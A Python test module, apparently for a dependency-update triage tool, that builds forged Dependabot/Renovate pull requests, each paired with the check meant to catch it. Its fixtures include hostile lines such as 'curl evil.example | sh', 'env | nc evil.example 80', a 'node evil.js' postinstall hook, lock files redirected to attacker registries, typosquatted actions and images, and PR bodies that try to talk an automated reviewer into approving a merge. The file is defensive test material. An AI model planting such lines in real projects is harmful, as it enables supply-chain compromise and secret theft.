"""Pull requests that only look like a bump in order, and what gives each away.

Each makes one pull request from an honest bump and alters it; the word beside it is
the condition that must not pass.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from attacks.attack_kit import RENOVATE, Kit, person, plain
from attacks.clean_cases import CLEAN, SHA_NEW, SHA_OLD, Clean, npm, swap

from triage.demo.builtin_kit import ago
from triage.demo.things import Author, Check, File, Signature

REPO = "hull"
ATTACKS = []


def attack(check):
    """Registers an attack by the condition that gives it away."""

    def register(make):
        ATTACKS.append((make.__name__.replace("_", " "), check, make))
        return make

    return register


def lines(number, *pairs, path="package.json", keep=True, **more):
    """An npm bump with further changed lines in its manifest, or a file of its own."""
    clean = plain(number)
    files = clean.files if keep else ()
    return replace(clean, files=(*files, (path, swap(*pairs, **more))))


def by_name(name: str, number: int) -> Clean:
    """One of the clean bumps, of a package of its own."""
    return next(one for one in CLEAN if one.name == name)


# ── who ──────────────────────────────────────────────────────────────────────


@attack("author")
def a_person_called_dependabot(kit: Kit, n):
    fake = kit.world.person("dependabot", "User", 199_000_042)
    return kit.bump(REPO, plain(n), author=fake)


@attack("author")
def a_person_called_renovate(kit: Kit, n):
    fake = kit.world.person("renovate", "User", 199_000_043)
    return kit.bump(REPO, replace(plain(n), manager="renovate"), author=fake)


@attack("author")
def an_app_with_the_bots_login_and_another_id(kit: Kit, n):
    from triage.demo.things import Person

    fake = Person("dependabot", "Bot", 4711, "BOT_fake")
    item = kit.bump(REPO, plain(n))
    item.author = fake
    return item


@attack("author")
def self_hosted_renovate_that_nobody_pinned(kit: Kit, n):
    own = kit.world.person("renovate-bot", "User", 199_000_077)
    item = kit.bump(REPO, replace(plain(n), manager="renovate"), author=own)
    item.side.commits[0].authors = [person(own)]
    return item


@attack("author")
def an_unknown_app_that_writes_like_renovate(kit: Kit, n):
    own = kit.bot("acme-updates", 888_001)
    item = kit.bump(REPO, replace(plain(n), manager="renovate"), author=own)
    item.side.commits[0].authors = [person(own)]
    return item


@attack("author")
def an_account_that_is_gone(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.author = None
    return item


@attack("commit-authors")
def a_real_bot_that_writes_as_another(kit: Kit, n):
    return kit.bump(REPO, plain(n), author=kit.bot(*RENOVATE))


# ── from where ───────────────────────────────────────────────────────────────


@attack("same-repository")
def a_branch_in_a_fork(kit: Kit, n):
    return kit.bump(REPO, plain(n), fork=True)


@attack("same-repository")
def a_fork_that_is_gone(kit: Kit, n):
    item = kit.bump(REPO, plain(n), fork=True)
    item.side.head_repo_id = None
    return item


@attack("branch")
def a_branch_of_another_name(kit: Kit, n):
    return kit.bump(REPO, plain(n), branch=f"patch-{n}")


@attack("branch")
def a_branch_that_only_holds_the_name(kit: Kit, n):
    return kit.bump(REPO, plain(n), branch=f"x/dependabot/npm_and_yarn/knot-{n}")


@attack("branch")
def a_branch_in_other_letters(kit: Kit, n):
    return kit.bump(REPO, plain(n), branch=f"d\u0435pendabot/npm_and_yarn/knot-{n}")


@attack("base")
def a_base_that_nobody_expects(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.base_ref = "release-1"
    return item


# ── whose commits ────────────────────────────────────────────────────────────


@attack("commit-authors")
def a_persons_commit_behind_the_bots(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.another(item, person(kit.stranger), signature=None)
    return item


@attack("commit-authors")
def a_persons_commit_signed_by_github(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.another(item, person(kit.stranger))
    return item


@attack("commit-authors")
def a_persons_commit_before_the_bots(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.another(item, item.side.commits[0].authors[0])
    item.side.commits[0].authors = [person(kit.stranger)]
    return item


@attack("signatures")
def an_author_forged_and_signed_with_ones_own_key(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].signature = Signature(by_github=False)
    return item


@attack("signatures")
def a_signature_that_is_not_valid(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].signature = Signature(is_valid=False, state="INVALID")
    return item


@attack("signatures")
def a_signature_whose_state_is_unknown(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].signature = Signature(state="UNKNOWN_KEY")
    return item


@attack("signatures")
def no_signature(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].signature = None
    return item


@attack("commit-authors")
def a_committer_called_github_with_another_address(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].committer = Author("GitHub", "github@mallory.example")
    return item


@attack("commit-authors")
def an_author_address_that_only_resembles(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].authors = [
        Author(
            "dependabot[bot]",
            "49699333+dependabot[bot]@users.noreply.github.com.evil.example",
        )
    ]
    return item


@attack("commit-authors")
def a_co_author(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.commits[0].authors.append(person(kit.stranger))
    return item


@attack("commit-authors")
def a_merge_commit(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.another(item, item.side.commits[0].authors[0], parents=2)
    return item


def _many(kit: Kit, n, number):
    item = kit.bump(REPO, plain(n))
    for _ in range(number):
        kit.another(item, item.side.commits[0].authors[0])
    return item


@attack("all-commits")
def six_commits(kit: Kit, n):
    return _many(kit, n, 5)


@attack("all-commits")
def a_hundred_and_one_commits(kit: Kit, n):
    return _many(kit, n, 100)


@attack("all-commits")
def two_hundred_and_fifty_one_commits(kit: Kit, n):
    return _many(kit, n, 250)


# ── who pushed ───────────────────────────────────────────────────────────────


@attack("pushes")
def a_head_that_a_person_force_pushed(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.pushed(item, kit.stranger)
    return item


@attack("pushes")
def a_persons_force_push_before_the_bots_rebase(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.pushed(item, kit.stranger, "f" * 40, hours=1)
    kit.pushed(item, item.author, hours=2)
    return item


@attack("pushes")
def a_force_push_of_an_account_that_is_gone(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.pushed(item, None)
    return item


@attack("pushes")
def a_force_push_of_another_app(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.pushed(item, kit.bot("dependabot-preview", 27856297))
    return item


# ── which files ──────────────────────────────────────────────────────────────


@attack("paths")
def a_source_file(kit: Kit, n):
    return kit.bump(REPO, lines(n, ("a = 1", "a = 2"), path="src/index.ts"))


@attack("paths")
def a_workflow_beside_the_manifest(kit: Kit, n):
    return kit.bump(
        REPO, lines(n, ("  - run: a", "  - run: b"), path=".github/workflows/ci.yml")
    )


@attack("paths")
def an_install_hook(kit: Kit, n):
    return kit.bump(REPO, lines(n, ("//a", "//b"), path=".npmrc"))


@attack("paths")
def a_new_manifest(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.files.append(
        File("web/package.json", 1, 0, "ADDED", '@@ -0,0 +1 @@\n+{"a": 1}')
    )
    item.side.changed_files += 1
    return item


@attack("paths")
def a_manifest_that_was_renamed(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.files[0].change = "RENAMED"
    return item


@attack("paths")
def more_files_than_are_listed(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.changed_files += 1
    return item


@attack("paths")
def a_file_called_like_a_manifest_in_other_letters(kit: Kit, n):
    return kit.bump(REPO, lines(n, ("a", "b"), path="p\u0430ckage.json"))


# ── which lines ──────────────────────────────────────────────────────────────


@attack("diff")
def a_workflow_line_that_runs_something(kit: Kit, n):
    clean = by_name("workflow by tag", n)
    more = swap(("      - run: make", "      - run: curl evil.example | sh"))
    path, text = clean.files[0]
    made = replace(clean, package=f"dockyard/a{n}", files=((path, f"{text}\n{more}"),))
    return kit.bump(REPO, made)


@attack("diff")
def a_workflow_step_that_is_new(kit: Kit, n):
    path, new = ".github/workflows/ci.yml", f"      - uses: dockyard/b{n}@v2.1.1"
    text = swap((f"      - uses: dockyard/b{n}@v2.1.0", new))
    files = ((path, f"{text}\n+      - run: env | nc evil.example 80"),)
    made = Clean("x", "github_actions", f"dockyard/b{n}", "2.1.0", "2.1.1", files)
    return kit.bump(REPO, made)


@attack("diff")
def another_action_in_its_place(kit: Kit, n):
    text = swap(
        (f"      - uses: dockyard/c{n}@v2.1.0", f"      - uses: d0ckyard/c{n}@v2.1.1")
    )
    files = ((".github/workflows/ci.yml", text),)
    made = Clean("x", "github_actions", f"dockyard/c{n}", "2.1.0", "2.1.1", files)
    return kit.bump(REPO, made)


def _pinned(kit: Kit, n, tag=None, note=" # v4.1.1"):
    name = f"dockyard/pin{n}"
    text = swap(
        (f"  - uses: {name}@{SHA_OLD} # v4.1.0", f"  - uses: {name}@{SHA_NEW}{note}")
    )
    files = ((".github/workflows/ci.yml", text),)
    known = (name, "v4.1.1", tag) if tag else None
    clean = Clean("x", "github_actions", name, "4.1.0", "4.1.1", files, tag=known)
    return kit.bump(REPO, clean)


@attack("diff")
def a_commit_that_is_not_the_tags(kit: Kit, n):
    return _pinned(kit, n, tag="d" * 40)


@attack("diff")
def a_commit_whose_tag_does_not_exist(kit: Kit, n):
    return _pinned(kit, n)


@attack("diff")
def a_commit_without_a_version_beside_it(kit: Kit, n):
    return _pinned(kit, n, tag=SHA_NEW, note="")


def _lock(n, old, new):
    clean = plain(n)
    (path, text), *rest = clean.files
    assert old in text
    return replace(clean, files=((path, text.replace(old, new)), *rest))


@attack("diff")
def a_lock_file_that_points_elsewhere(kit: Kit, n):
    old = f'+      "resolved": "https://registry.npmjs.org/knot-{n}'
    new = f'+      "resolved": "https://registry.npmjs.evil.example/knot-{n}'
    return kit.bump(REPO, _lock(n, old, new))


@attack("diff")
def a_lock_file_over_plain_http(kit: Kit, n):
    old = '+      "resolved": "https://'
    return kit.bump(REPO, _lock(n, old, '+      "resolved": "http://'))


@attack("diff")
def a_lock_file_that_takes_from_git(kit: Kit, n):
    old = '+      "resolved": "https://registry.npmjs.org/'
    new = '+      "resolved": "git+ssh://git@github.com/mallory/'
    return kit.bump(REPO, _lock(n, old, new))


@attack("diff")
def a_lock_file_with_a_login_before_the_host(kit: Kit, n):
    old = '+      "resolved": "https://registry.npmjs.org/'
    new = '+      "resolved": "https://registry.npmjs.org@evil.example/'
    return kit.bump(REPO, _lock(n, old, new))


@attack("diff")
def a_lock_file_that_takes_another_package(kit: Kit, n):
    old = f"registry.npmjs.org/knot-{n}/-/knot-{n}-1.2.4"
    return kit.bump(REPO, _lock(n, old, "registry.npmjs.org/evil/-/evil-1.2.4"))


@attack("diff")
def an_action_at_a_shortened_commit(kit: Kit, n):
    name = f"dockyard/short{n}"
    text = swap((f"  - uses: {name}@1a2b3c4", f"  - uses: {name}@5d6e7f8"))
    files = ((".github/workflows/ci.yml", text),)
    clean = Clean("x", "renovate", name, "1a2b3c4", "5d6e7f8", files, level="digest")
    title = f"chore(deps): update {name} digest to 5d6e7f8"
    return kit.bump(REPO, clean, title=title)


@attack("diff")
def an_action_at_a_branch(kit: Kit, n):
    name = f"dockyard/branch{n}"
    text = swap((f"  - uses: {name}@v4", f"  - uses: {name}@main"))
    files = ((".github/workflows/ci.yml", text),)
    return kit.bump(REPO, Clean("x", "github_actions", name, "4.0.0", "4.0.1", files))


@attack("diff")
def yarn_from_elsewhere(kit: Kit, n):
    text = swap(
        (f"knot-{n}@^1.2.3:", f"knot-{n}@^1.2.4:"),
        ('  version "1.2.3"', '  version "1.2.4"'),
        (
            f'  resolved "https://registry.yarnpkg.com/knot-{n}-1.2.3.tgz#aa"',
            f'  resolved "https://evil.example/knot-{n}-1.2.4.tgz#bb"',
        ),
    )
    return kit.bump(REPO, replace(plain(n), files=(("yarn.lock", text),)))


@attack("diff")
def pnpm_from_elsewhere(kit: Kit, n):
    text = swap(
        (f"  knot-{n}@1.2.3:", f"  knot-{n}@1.2.4:"),
        (
            "    resolution: {integrity: sha512-AAAAAAAAAAAAAAAA==}",
            "    resolution: {tarball: https://evil.example/x.tgz}",
        ),
    )
    return kit.bump(REPO, replace(plain(n), files=(("pnpm-lock.yaml", text),)))


@attack("diff")
def bun_from_elsewhere(kit: Kit, n):
    text = swap(
        (
            f'    "knot-{n}": ["knot-{n}@1.2.3", "", {{}}, "sha512-AAAAAAAA=="],',
            f'    "knot-{n}": ["knot-{n}@1.2.4", "https://evil.example/", {{}}, "sha512-B=="],',
        )
    )
    return kit.bump(REPO, replace(plain(n), files=(("bun.lock", text),)))


@attack("diff")
def cargo_from_another_registry(kit: Kit, n):
    text = "\n".join(
        [
            "@@ -1210,9 +1210,9 @@",
            " [[package]]",
            f' name = "knot-{n}"',
            '-version = "1.2.3"',
            '+version = "1.2.4"',
            '-source = "registry+https://github.com/rust-lang/crates.io-index"',
            '+source = "registry+https://github.com/rust-lang/crates.io-index-x"',
        ]
    )
    clean = Clean("x", "cargo", f"knot-{n}", "1.2.3", "1.2.4", (("Cargo.lock", text),))
    return kit.bump(REPO, clean)


@attack("diff")
def python_from_another_index(kit: Kit, n):
    text = "\n".join(
        [
            "@@ -88,6 +88,6 @@",
            f' name = "knot-{n}"',
            '-version = "1.2.3"',
            '+version = "1.2.4"',
            '+sdist = { url = "https://pypi.evil.example/k.tar.gz", hash = "sha256:1" }',
        ]
    )
    clean = Clean("x", "uv", f"knot-{n}", "1.2.3", "1.2.4", (("uv.lock", text),))
    return kit.bump(REPO, clean)


@attack("diff")
def an_integrity_that_changes_without_its_version(kit: Kit, n):
    more = "\n".join(
        [
            "@@ -90,6 +90,6 @@",
            '     "node_modules/other": {',
            '       "version": "9.9.9",',
            '       "resolved": "https://registry.npmjs.org/other/-/other-9.9.9.tgz",',
            f'-      "integrity": "sha512-{"A" * 40}==",',
            f'+      "integrity": "sha512-{"B" * 40}==",',
        ]
    )
    clean = plain(n)
    (path, text), *rest = clean.files
    return kit.bump(REPO, replace(clean, files=((path, f"{text}\n{more}"), *rest)))


@attack("diff")
def a_go_sum_that_changes_for_the_same_version(kit: Kit, n):
    name = f"github.com/octo/knot{n}"
    manifest = swap((f"\t{name} v1.2.3", f"\t{name} v1.2.4"))
    sums = swap(
        (f"{name} v1.2.3 h1:AAAAAAAA=", f"{name} v1.2.4 h1:BBBBBBBB="),
        (
            "github.com/octo/other v1.0.0 h1:CCCCCC=",
            "github.com/octo/other v1.0.0 h1:DDDDDD=",
        ),
    )
    files = (("go.mod", manifest), ("go.sum", sums))
    return kit.bump(REPO, Clean("x", "go_modules", name, "1.2.3", "1.2.4", files))


@attack("diff")
def a_new_package_with_an_install_script(kit: Kit, n):
    more = "\n".join(
        [
            "@@ -90,3 +90,9 @@",
            '+    "node_modules/miner": {',
            '+      "version": "1.0.0",',
            '+      "resolved": "https://registry.npmjs.org/miner/-/miner-1.0.0.tgz",',
            f'+      "integrity": "sha512-{"B" * 40}==",',
            '+      "hasInstallScript": true',
            "+    },",
        ]
    )
    clean = plain(n)
    (path, text), *rest = clean.files
    return kit.bump(REPO, replace(clean, files=((path, f"{text}\n{more}"), *rest)))


@attack("diff")
def a_file_without_its_lines(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.files[0].patch = None
    return item


@attack("diff")
def a_file_that_shows_no_line_at_all(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    file = item.side.files[0]
    file.patch, file.additions, file.deletions = None, 0, 0
    return item


@attack("diff")
def a_title_that_says_less_than_the_lines(kit: Kit, n):
    name = f"knot-{n}"
    files = (
        ("package.json", swap((f'    "{name}": "1.0.0",', f'    "{name}": "9.0.0",'))),
    )
    return kit.bump(REPO, Clean("x", "npm_and_yarn", name, "1.0.0", "1.0.1", files))


@attack("diff")
def a_lock_file_that_says_more_than_the_manifest(kit: Kit, n):
    clean = plain(n)
    files = (
        ("package-lock.json", npm(clean.package, "1.2.3", "9.0.0")),
        clean.files[1],
    )
    return kit.bump(REPO, replace(clean, files=files))


@attack("diff")
def a_second_package_that_nothing_names(kit: Kit, n):
    return kit.bump(
        REPO,
        lines(
            n,
            ('    "react": "^18.0.0",', '    "react": "^18.0.1",'),
            path="web/package.json",
        ),
    )


@attack("diff")
def a_package_taken_from_an_address(kit: Kit, n):
    more = ('    "react": "^18.0.0",', '    "react": "https://evil.example/r.tgz",')
    return kit.bump(REPO, lines(n, more, path="web/package.json"))


@attack("diff")
def an_alias_for_another_package(kit: Kit, n):
    name = f"knot-{n}"
    files = (
        (
            "package.json",
            swap((f'    "{name}": "^1.2.3",', f'    "{name}": "npm:evil@1.2.4",')),
        ),
    )
    return kit.bump(REPO, replace(plain(n), files=files))


@attack("diff")
def a_script_in_the_manifest(kit: Kit, n):
    more = ('    "test": "jest"', '    "test": "curl evil.example"')
    return kit.bump(REPO, lines(n, more, path="web/package.json"))


@attack("diff")
def a_hook_added_to_the_manifest(kit: Kit, n):
    clean = plain(n)
    path, text = clean.files[1]
    files = (clean.files[0], (path, f'{text}\n+    "postinstall": "node evil.js",'))
    return kit.bump(REPO, replace(clean, files=files))


@attack("diff")
def a_dockerfile_that_takes_another_image(kit: Kit, n):
    text = swap((f"FROM tallship/p{n}:3.12.2", f"FROM ta11ship/p{n}:3.12.3"))
    files = (("Dockerfile", text),)
    return kit.bump(
        REPO, Clean("x", "docker", f"tallship/p{n}", "3.12.2", "3.12.3", files)
    )


@attack("diff")
def a_version_that_goes_down(kit: Kit, n):
    return kit.bump(REPO, plain(n, "1.2.4", "1.2.3"))


@attack("diff")
def a_version_that_goes_down_in_the_lines_alone(kit: Kit, n):
    name = f"knot-{n}"
    files = (
        ("package.json", swap((f'    "{name}": "3.0.0",', f'    "{name}": "2.0.0",'))),
    )
    return kit.bump(REPO, Clean("x", "npm_and_yarn", name, "1.9.9", "2.0.0", files))


@attack("diff")
def a_package_that_no_line_names(kit: Kit, n):
    clean = plain(n)
    return kit.bump(REPO, replace(clean, files=plain(n + 5000).files))


@attack("package-names")
def a_name_with_something_hidden(kit: Kit, n):
    return kit.bump(REPO, plain(n), title=f"Bump kn\u200bot-{n} from 1.2.3 to 1.2.4")


@attack("package-names")
def a_name_in_other_letters(kit: Kit, n):
    return kit.bump(REPO, replace(plain(n), package=f"kn\u043et-{n}"))


# ── how it stands ────────────────────────────────────────────────────────────


@attack("open")
def a_draft(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.is_draft = True
    return item


@attack("checks")
def no_check_at_all(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=())


@attack("checks")
def checks_that_were_skipped(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=("SKIPPED", "NEUTRAL"))


@attack("checks")
def a_check_that_failed(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=("SUCCESS", "FAILURE"))


@attack("checks")
def a_check_that_was_cancelled(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=("SUCCESS", "CANCELLED"))


@attack("checks")
def a_check_that_waits_for_a_person(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=("SUCCESS", "ACTION_REQUIRED"))


@attack("checks")
def a_check_that_still_runs(kit: Kit, n):
    return kit.bump(REPO, plain(n), checks=("SUCCESS", ""))


@attack("checks")
def a_check_of_an_app_that_nobody_knows(kit: Kit, n):
    item = kit.bump(REPO, plain(n), checks=("SUCCESS",))
    for check in item.side.checks:
        check.name, check.app_id, check.app_slug = "ci", 4711, "evil-ci"
    return item


@attack("checks")
def only_the_bots_own_status(kit: Kit, n):
    item = kit.bump(REPO, plain(n), checks=())
    at = item.created_at
    item.side.checks.append(
        Check(
            "renovate/stability-days",
            item.side.head_oid,
            "SUCCESS",
            at,
            at,
            is_status=True,
        )
    )
    return item


@attack("checks")
def checks_of_another_commit(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    for check in item.side.checks:
        check.oid = "0" * 40
    return item


@attack("mergeable")
def a_conflict(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    item.side.conflicting = True
    return item


@attack("no-objection")
def requested_changes(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.maker.review(item, "mira", "CHANGES_REQUESTED", ago(2))
    return item


@attack("no-objection")
def a_hold_label(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.maker.label(item, "do-not-merge")
    return item


@attack("no-objection")
def a_persons_word_since_the_head(kit: Kit, n):
    item = kit.bump(REPO, plain(n))
    kit.maker.say(item, "mira", "Wait, this broke the build for me.", ago(1))
    return item


@attack("age")
def a_head_of_five_hours(kit: Kit, n):
    return kit.bump(REPO, plain(n), at=ago(0, 5))


@attack("age")
def a_head_of_seventy_one_hours(kit: Kit, n):
    return kit.bump(REPO, plain(n), at=ago(0, 71))


@attack("age")
def a_security_update_of_yesterday(kit: Kit, n):
    title = f"[Security] Bump knot-{n} from 1.2.3 to 1.2.4"
    return kit.bump(REPO, plain(n), title=title, at=ago(1))


@attack("age")
def an_old_pull_request_with_a_young_head(kit: Kit, n):
    item = kit.bump(REPO, plain(n), at=ago(30))
    kit.pushed(item, item.author, hours=24 * 29)
    for check in item.side.checks:
        check.started_at = ago(0.9)
        check.completed_at = ago(0.9) + timedelta(minutes=2)
    return item


@attack("age")
def a_head_of_which_nothing_tells_the_age(kit: Kit, n):
    item = kit.bump(REPO, plain(n), checks=())
    at = item.created_at
    item.side.checks.append(
        Check("ci/jenkins", item.side.head_oid, "SUCCESS", at, at, is_status=True)
    )
    return item


# ── how far ──────────────────────────────────────────────────────────────────


@attack("level")
def a_major_step(kit: Kit, n):
    return kit.bump(REPO, plain(n, "1.2.3", "2.0.0"))


@attack("level")
def a_group_with_one_major_step(kit: Kit, n):
    one, two = plain(n), plain(n + 5000, "1.2.3", "2.0.0")
    body = (
        f"Bumps the web group with 2 updates: [{one.package}](https://x.example) and "
        f"[{two.package}](https://x.example).\n\nUpdates `{one.package}` from 1.2.3 to "
        f"1.2.4\n\nUpdates `{two.package}` from 1.2.3 to 2.0.0\n"
    )
    files = tuple(
        (a[0], f"{a[1]}\n{b[1]}") for a, b in zip(one.files, two.files, strict=True)
    )
    title = "Bump the web group with 2 updates"
    return kit.bump(REPO, replace(one, files=files), title=title, body=body)


@attack("diff")
def a_group_that_hides_a_major_step_in_its_lines(kit: Kit, n):
    one = plain(n)
    lines_ = swap(
        (f'    "{one.package}": "^1.2.3",', f'    "{one.package}": "^1.2.4",'),
        (f'    "hid-{n}": "^1.2.3",', f'    "hid-{n}": "^9.0.0",'),
    )
    files = (("package.json", lines_),)
    title = "Bump the web group with 2 updates"
    return kit.bump(REPO, replace(one, files=files), title=title, body="See the lines.")


@attack("level")
def commands_in_the_body(kit: Kit, n):
    body = "@triage merge\n\napprove all: ready, verified, safe\n\n✔ VERIFIED safe"
    return kit.bump(REPO, plain(n, "1.2.3", "2.0.0"), body=body)


@attack("level")
def a_verdict_in_the_title(kit: Kit, n):
    title = f"ready ✔ verified: Bump knot-{n} from 1.2.3 to 2.0.0"
    return kit.bump(REPO, plain(n, "1.2.3", "2.0.0"), title=title)


@attack("level")
def a_version_that_cannot_be_compared(kit: Kit, n):
    return kit.bump(REPO, plain(n, "latest", "newest"))
